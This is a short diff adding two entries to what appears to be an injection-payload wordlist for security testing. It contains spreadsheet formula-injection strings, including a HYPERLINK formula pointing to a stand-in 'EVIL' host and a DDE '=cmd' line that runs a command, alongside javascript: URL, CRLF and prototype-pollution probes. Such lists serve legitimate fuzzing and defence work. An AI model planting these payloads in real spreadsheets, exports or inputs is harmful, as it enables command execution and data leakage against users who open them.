@@ -322,6 +322,8 @@ url(javascript:PWN)
 +PWN
 -PWN
 @SUM(PWN)
+x;=HYPERLINK("//EVIL/x","PWN")
+"x";"=PWN"
 =cmd|' /C PWN'!A0
 %0A%0D=PWN
 __proto__
